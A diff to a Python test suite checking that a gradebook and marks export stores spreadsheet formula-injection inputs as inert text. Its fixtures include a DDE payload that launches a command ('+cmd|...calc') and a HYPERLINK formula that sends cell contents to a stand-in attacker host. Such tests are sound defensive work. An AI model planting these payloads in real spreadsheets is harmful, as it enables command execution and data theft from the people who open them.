@@ -64,7 +64,7 @@ def loose(classroom, name, module="metrics"):
     return os.fsdecode(folder)
 
 
-FORMULAS = ["=1+2", "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3", "\t=tab", "\r=cr"]
+FORMULAS = ["=1+2", "@SUM(A1:A2)", "+cmd|' -C calc'!A0", "-2+3", "\t=tab", "\r=cr"]  # folder names: no "/"
 
 
 def test_no_cell_of_marks_or_gradebook_is_a_formula(tmp_path):
@@ -86,7 +86,7 @@ def test_no_cell_of_marks_or_gradebook_is_a_formula(tmp_path):
     cells = [cell for table in (rows, book) for row in table for cell in row]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], (rows, book)
     names = {row[0] for row in rows[1:]}
-    assert "'=1+2" in names and "'@SUM(A1:A2)" in names and "'-2+3" in names  # kept, shown as text
+    assert {"'=1+2", "'@SUM(A1:A2)", "'+cmd|' -C calc'!A0", "'-2+3", "\\x09=tab", "\\x0d=cr"} < names  # as text
     assert ['\'=HYPERLINK("http://evil.example/?"&A1, "mark")', "", "'+1-2", "'@evil.example", "", "0"] in book
 
 
